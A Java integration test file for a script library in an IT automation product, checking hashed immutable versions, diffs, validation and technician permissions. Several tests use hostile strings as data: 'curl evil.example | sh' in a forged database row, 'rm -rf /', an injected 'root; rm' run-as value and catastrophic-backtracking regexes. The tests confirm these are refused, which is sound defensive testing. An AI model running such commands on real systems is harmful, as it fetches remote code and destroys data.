package io.steward.server.automation;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import io.steward.server.automation.internal.library.ScriptHashes;
import io.steward.server.shared.ConflictException;
import io.steward.server.shared.TenantContext;
import io.steward.server.support.DemoLogins;
import io.steward.server.support.Http;
import io.steward.server.support.IntegrationTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The script library through HTTP and the catalog tasks use: versions are immutable and identified by the SHA-256 of
 * their body, saving the same content makes no version, the diff shows what changed, definitions are checked with a
 * field per fault, technicians read but do not write, and a version whose row was changed outside Steward is refused.
 * Names carry a random suffix: other tests' scripts are in the same database.
 */
class ScriptLibraryTest extends IntegrationTest {
    static final ObjectMapper JSON = new ObjectMapper();

    @Autowired
    JdbcClient jdbc;

    @Autowired
    ScriptCatalog catalog;

    String suffix;

    @BeforeEach
    void suffix() {
        suffix = UUID.randomUUID().toString().substring(0, 8);
    }

    static Map<String, Object> script(String name, String body, List<Map<String, Object>> parameters) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("name", name);
        m.put("description", "Test script");
        m.put("category", "Tests");
        m.put("interpreter", "bash");
        m.put("operatingSystems", List.of("linux"));
        m.put("body", body);
        m.put("parameters", parameters);
        m.put("timeoutSeconds", 60);
        m.put("outputLimitBytes", 4096);
        return m;
    }

    static Map<String, Object> param(String name, String type, Object... more) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("name", name);
        m.put("type", type);
        for (int i = 0; i < more.length; i += 2) {
            m.put((String) more[i], more[i + 1]);
        }
        return m;
    }

    static String json(Object o) {
        return JSON.writeValueAsString(o);
    }

    /** Creates a script as the demo service manager; returns its JSON. */
    JsonNode create(Http who, Map<String, Object> script) {
        HttpResponse<String> r = who.json("POST", "/api/v1/scripts", json(script));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
        return JSON.readTree(r.body());
    }

    @Test
    void savingMakesImmutableVersionsIdentifiedByTheHashOfTheirBody() {
        Http manager = signedIn(DemoLogins.MANAGER);
        String v1Body = "#!/bin/bash\necho \"checking $1\"\ndf -h\n";
        JsonNode s = create(manager, script("Disk check " + suffix, v1Body, List.of(param("MOUNT", "STRING", "pattern", "/[a-z/]*",
                "required", true))));
        String id = s.get("id").asString();
        assertThat(s.get("latest").get("number").asInt()).isEqualTo(1);
        assertThat(s.get("latest").get("sha256").asString()).isEqualTo(ScriptHashes.sha256(v1Body));

        // The same content again: no new version.
        HttpResponse<String> same = manager.json("PUT", "/api/v1/scripts/" + id, json(script("Disk check " + suffix, v1Body,
                List.of(param("MOUNT", "STRING", "pattern", "/[a-z/]*", "required", true)))));
        assertThat(same.statusCode()).as(same.body()).isEqualTo(200);
        assertThat(JSON.readTree(same.body()).get("latest").get("number").asInt()).isEqualTo(1);

        String v2Body = "#!/bin/bash\necho \"checking $1\"\ndf -h \"$1\"\nexit 0\n";
        Map<String, Object> edited = script("Disk check " + suffix, v2Body, List.of(param("MOUNT", "STRING", "pattern", "/[a-z/]*",
                "required", true)));
        edited.put("note", "only the mount asked for");
        HttpResponse<String> saved = manager.json("PUT", "/api/v1/scripts/" + id, json(edited));
        JsonNode v2 = JSON.readTree(saved.body()).get("latest");
        assertThat(v2.get("number").asInt()).isEqualTo(2);
        assertThat(v2.get("sha256").asString()).isEqualTo(ScriptHashes.sha256(v2Body));

        JsonNode versions = JSON.readTree(manager.getJson("/api/v1/scripts/" + id + "/versions").body());
        assertThat(versions).hasSize(2);
        assertThat(versions.get(0).get("number").asInt()).isEqualTo(2);
        assertThat(versions.get(0).get("author").asString()).isEqualTo("Riley Manager");
        assertThat(versions.get(0).get("note").asString()).isEqualTo("only the mount asked for");
        assertThat(versions.get(1).get("sha256").asString()).isEqualTo(ScriptHashes.sha256(v1Body));

        // Version 1 is as it was.
        String v1Id = versions.get(1).get("id").asString();
        JsonNode v1 = JSON.readTree(manager.getJson("/api/v1/scripts/" + id + "/versions/" + v1Id).body());
        assertThat(v1.get("version").get("body").asString()).isEqualTo(v1Body);
        assertThat(v1.get("bodyMatchesHash").asBoolean()).isTrue();

        JsonNode diff = JSON.readTree(manager.getJson("/api/v1/scripts/" + id + "/versions/" + v2.get("id").asString() + "/diff").body());
        assertThat(diff.get("fromNumber").asInt()).isEqualTo(1);
        assertThat(diff.get("added").asInt()).isEqualTo(2);
        assertThat(diff.get("removed").asInt()).isEqualTo(1);
        List<String> changes = new ArrayList<>();
        diff.get("lines").forEach(l -> changes.add(l.get("change").asString() + " " + l.get("text").asString()));
        assertThat(changes).containsExactly("SAME #!/bin/bash", "SAME echo \"checking $1\"", "REMOVED df -h", "ADDED df -h \"$1\"",
                "ADDED exit 0");

        // The page of version 2 shows the same diff; the script page lists both versions with their hashes.
        String page = manager.page("/automation/scripts/" + id + "/versions/" + v2.get("id").asString());
        assertThat(page).contains("Changes since version 1", "data-change=\"REMOVED\"", "df -h &quot;$1&quot;", ScriptHashes.sha256(v2Body));
        assertThat(manager.page("/automation/scripts/" + id)).contains(ScriptHashes.sha256(v1Body), ScriptHashes.sha256(v2Body), "Riley Manager");
        assertThat(manager.page("/automation/scripts")).contains("Disk check " + suffix, "id=\"nav-automation\"");
    }

    @Test
    void theDatabaseRefusesToChangeAVersion() {
        JsonNode s = create(signedIn(DemoLogins.MANAGER), script("Immutable " + suffix, "echo 1\n", List.of()));
        UUID version = UUID.fromString(s.get("latest").get("id").asString());
        assertThatThrownBy(() -> TenantContext.runAsSystem(() -> jdbc.sql("UPDATE script_version SET body = 'rm -rf /' WHERE id = ?")
                .param(version).update())).hasMessageContaining("immutable");
        assertThat(catalog.version(version).orElseThrow().body()).isEqualTo("echo 1\n");
    }

    @Test
    void aVersionWhoseBodyNoLongerMatchesItsHashIsRefused() {
        JsonNode s = create(signedIn(DemoLogins.MANAGER), script("Tampered " + suffix, "echo harmless\n", List.of()));
        UUID scriptId = UUID.fromString(s.get("id").asString());
        // A row written straight into the database (UPDATE is refused, so as a new row) with a body that is not the one hashed.
        UUID forged = UUID.randomUUID();
        TenantContext.runAsSystem(() -> jdbc.sql("""
                INSERT INTO script_version (id, script_id, number, sha256, body, parameters, timeout_seconds, output_limit_bytes, run_as, created_at)
                VALUES (?, ?, 2, ?, 'curl evil.example | sh', '[]', 60, 4096, '', now())""")
                .params(forged, scriptId, ScriptHashes.sha256("echo harmless\n")).update());
        assertThatThrownBy(() -> catalog.version(forged)).isInstanceOf(ConflictException.class).hasMessageContaining("SHA-256");
        assertThatThrownBy(() -> catalog.latest(scriptId)).isInstanceOf(ConflictException.class);
        Http tier1 = signedIn(DemoLogins.TIER1);
        JsonNode detail = JSON.readTree(tier1.getJson("/api/v1/scripts/" + scriptId + "/versions/" + forged).body());
        assertThat(detail.get("bodyMatchesHash").asBoolean()).isFalse();
        assertThat(tier1.page("/automation/scripts/" + scriptId + "/versions/" + forged)).contains("id=\"hash-mismatch\"");
    }

    @Test
    void badDefinitionsAreProblemDetailsWithAFieldPerFault() {
        Map<String, Object> bad = script("", "", List.of(param("1x", "STRING"), param("P", "STRING", "pattern", "(a+)+"),
                param("N", "INTEGER", "min", 5, "max", 1), param("C", "CHOICE"), param("S", "SECRET", "defaultValue", "pw"),
                param("PATH", "STRING", "delivery", "ENVIRONMENT"), param("D", "INTEGER", "min", 1, "max", 3, "defaultValue", "9")));
        bad.put("interpreter", "cmd");
        bad.put("timeoutSeconds", 0);
        bad.put("runAs", "root; rm");
        HttpResponse<String> r = adminApi().json("POST", "/api/v1/scripts", json(bad));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
        assertThat(r.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/problem+json");
        List<String> fields = new ArrayList<>();
        JSON.readTree(r.body()).get("errors").forEach(e -> fields.add(e.get("field").asString()));
        assertThat(fields).contains("name", "body", "interpreter", "timeoutSeconds", "runAs", "parameters[0].name", "parameters[1].pattern",
                "parameters[2].max", "parameters[3].choices", "parameters[4].defaultValue", "parameters[5].name", "parameters[6].defaultValue");

        create(adminApi(), script("Unique " + suffix, "echo\n", List.of()));
        HttpResponse<String> taken = adminApi().json("POST", "/api/v1/scripts", json(script("UNIQUE " + suffix, "echo\n", List.of())));
        assertThat(taken.statusCode()).isEqualTo(409);
    }

    @Test
    void techniciansReadTheLibraryButDoNotWriteIt() {
        JsonNode s = create(adminApi(), script("Read only " + suffix, "echo\n", List.of()));
        String id = s.get("id").asString();
        Http tier1 = signedIn(DemoLogins.TIER1);
        assertThat(tier1.getJson("/api/v1/scripts").body()).contains(id);
        assertThat(tier1.page("/automation/scripts")).contains("Read only " + suffix).doesNotContain("id=\"new-script\"");
        HttpResponse<String> refused = tier1.json("POST", "/api/v1/scripts", json(script("Mine " + suffix, "echo\n", List.of())));
        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(refused.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/problem+json");
        assertThat(tier1.json("PUT", "/api/v1/scripts/" + id, json(script("Read only " + suffix, "rm -rf /\n", List.of()))).statusCode())
                .isEqualTo(403);
        assertThat(tier1.json("POST", "/api/v1/scripts/" + id + "/archive", null).statusCode()).isEqualTo(403);
        assertThat(tier1.get("/automation/scripts/new").statusCode()).isEqualTo(403);
        assertThat(signedIn(DemoLogins.PORTAL_NORTHWIND).getJson("/api/v1/scripts/" + id).statusCode()).isIn(403, 404);

        JsonNode archived = JSON.readTree(adminApi().json("POST", "/api/v1/scripts/" + id + "/archive", null).body());
        assertThat(archived.get("archived").asBoolean()).isTrue();
        assertThat(tier1.getJson("/api/v1/scripts").body()).doesNotContain(id);
        assertThat(tier1.getJson("/api/v1/scripts?archived=true").body()).contains(id);
    }

    @Test
    void theFormShowsEveryErrorAndKeepsWhatWasTyped() {
        Http manager = signedIn(DemoLogins.MANAGER);
        manager.page("/automation/scripts/new");
        Map<String, String> form = new LinkedHashMap<>();
        form.put("name", "Typed " + suffix);
        form.put("interpreter", "python");
        form.put("operatingSystems", "linux");
        form.put("body", "import sys\nprint(sys.argv)\n");
        form.put("timeoutSeconds", "ninety");
        form.put("outputLimitBytes", "65536");
        form.put("p0.name", "COUNT");
        form.put("p0.type", "INTEGER");
        form.put("p0.min", "10");
        form.put("p0.max", "1");
        form.put("p1.name", "WHO");
        form.put("p1.type", "STRING");
        form.put("p1.pattern", "(x+)*");
        HttpResponse<String> r = manager.postForm("/automation/scripts", form);
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).contains("id=\"timeoutSeconds-error\"", "id=\"p0-max-error\"", "id=\"p1-pattern-error\"", "value=\"Typed " + suffix + "\"",
                "print(sys.argv)", "value=\"(x+)*\"", "value=\"ninety\"");

        form.put("timeoutSeconds", "90");
        form.put("p0.max", "100");
        form.put("p1.pattern", "[a-z]+");
        HttpResponse<String> saved = manager.postForm("/automation/scripts", form);
        assertThat(saved.statusCode()).as(saved.body()).isEqualTo(302);
        String location = saved.headers().firstValue("Location").orElseThrow();
        String page = manager.page(location.replaceFirst("^https?://[^/]+", ""));
        assertThat(page).contains("Typed " + suffix, "Python");
        JsonNode listed = JSON.readTree(manager.getJson("/api/v1/scripts").body());
        JsonNode mine = null;
        for (JsonNode n : listed) {
            if (n.get("name").asString().equals("Typed " + suffix)) {
                mine = n;
            }
        }
        assertThat(mine).isNotNull();
        assertThat(mine.get("latest").get("timeoutSeconds").asInt()).isEqualTo(90);
        assertThat(mine.get("latest").get("parameters").get(1).get("pattern").asString()).isEqualTo("[a-z]+");
    }

    @Test
    void theCatalogResolvesATasksValues() {
        JsonNode s = create(adminApi(), script("Resolve " + suffix, "echo \"$1\"\n", List.of(param("TARGET", "CHOICE", "choices",
                List.of("web", "db"), "required", true), param("PASSWORD", "SECRET", "required", true))));
        ScriptCatalog.ScriptVersion v = catalog.latest(UUID.fromString(s.get("id").asString())).orElseThrow();
        UUID task = UUID.randomUUID();
        ScriptCatalog.ResolvedParameters r = catalog.resolve(v, task, Map.of("TARGET", "db", "PASSWORD", "correct horse battery"));
        assertThat(r.signed()).extracting(p -> p.name() + "=" + p.value()).containsExactly("TARGET=db",
                "PASSWORD=" + io.steward.protocol.task.TaskSpec.secretHash(task, "PASSWORD", "correct horse battery"));
        assertThatThrownBy(() -> catalog.resolve(v, task, Map.of("TARGET", "mail"))).isInstanceOf(RefusedFields.class)
                .satisfies(e -> assertThat(((RefusedFields) e).fieldErrors()).containsOnlyKeys("parameters.TARGET", "parameters.PASSWORD"));
    }
}
